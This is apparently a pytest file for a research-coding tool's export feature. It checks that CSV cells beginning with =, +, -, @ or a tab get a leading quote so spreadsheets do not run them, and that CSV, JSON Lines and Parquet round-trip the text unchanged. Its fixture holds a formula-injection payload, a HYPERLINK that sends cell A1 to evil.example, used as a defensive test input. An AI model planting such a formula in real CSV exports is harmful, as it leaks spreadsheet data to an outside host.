"""A coder's text or an imported title never runs as a spreadsheet formula (issue 36, 4).

A free-text answer `=HYPERLINK("http://evil.example/?x="&A1,"click")` reached long.csv as
it was, in every role's export: opened in a spreadsheet, it runs. CSV cells that start
with =, +, -, @, a tab or a carriage return now start with a ' (OWASP's rule; ' itself
too, so the loader can take exactly one away); JSON Lines and Parquet keep the text.
"""

import csv
import io
import json
import zipfile

import pytest

from coding.actions.submit import record_coding
from coding.dataset import load
from coding.export.bundle import build_bundle
from coding.labeling import queue
from coding.models import Role
from ingest.models import Document
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TEXTS = [FORMULA, "+1 (555) 0100", "-2 is the answer", "@SUM(A1:A9)", "\tcmd", "'quoted",
         "plain words"]

CODEBOOK = {"name": "Notes", "applies_to": "paper", "questions": [
    {"key": "comment", "kind": "text", "text": "Anything to add?", "required": False},
    {"key": "count", "kind": "number", "text": "How many runs?", "required": False,
     "min_value": -10}]}


@pytest.fixture
def hostile(people):
    study = factories.study("Hostile text", owner=people["olive"], overlap=1)
    for name in ("olive", "cora"):
        factories.member(study, people[name], people["names"][name])
    codebook = factories.codebook(study, CODEBOOK)
    for n, text in enumerate(TEXTS):
        document = factories.paper(n)
        Document.objects.filter(pk=document.pk).update(title=text)  # as an import writes it
        document.refresh_from_db()
        item = queue.add_item(study, document, codebook)
        record_coding(queue.assign(item, people["cora"]), {"comment": text, "count": -3})
    return study


def members(path):
    with zipfile.ZipFile(path) as bundle:
        return {name: bundle.read(name).decode() for name in bundle.namelist()}


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(hostile, tmp_path):
    path = tmp_path / "csv.zip"
    build_bundle(hostile, path, shapes=["long", "items"], fmt="csv", roles={Role.OWNER})
    files = members(path)
    long = list(csv.DictReader(io.StringIO(files["long.csv"])))
    comments = {row["value"] for row in long if row["question"] == "comment"}
    assert comments == {"'" + t for t in TEXTS[:-1]} | {"plain words"}
    assert {row["value"] for row in long if row["question"] == "count"} == {"-3"}
    titles = {row["title"] for row in csv.DictReader(io.StringIO(files["items.csv"]))}
    assert "'" + FORMULA in titles and FORMULA not in titles
    assert "a ' before them" in json.loads(files["datapackage.json"])["resources"][0][
        "description"]
    assert "## Opening in a spreadsheet" in files["README.md"]


def test_every_format_loads_back_the_exact_text(hostile, tmp_path):
    loaded = {}
    for fmt in ("csv", "jsonl", "parquet"):
        path = tmp_path / f"{fmt}.zip"
        build_bundle(hostile, path, shapes=["long", "items"], fmt=fmt, roles={Role.OWNER})
        tables = load(path)
        long = tables["long"]
        loaded[fmt] = (sorted(long[long.question == "comment"]["value"]),
                       sorted(tables["items"]["title"]))
    assert loaded["csv"] == loaded["jsonl"] == loaded["parquet"]
    assert loaded["csv"] == (sorted(TEXTS), sorted(TEXTS))
    jsonl = members(tmp_path / "jsonl.zip")["long.jsonl"]
    assert json.dumps(FORMULA)[1:-1] in jsonl  # the exact text, unquoted
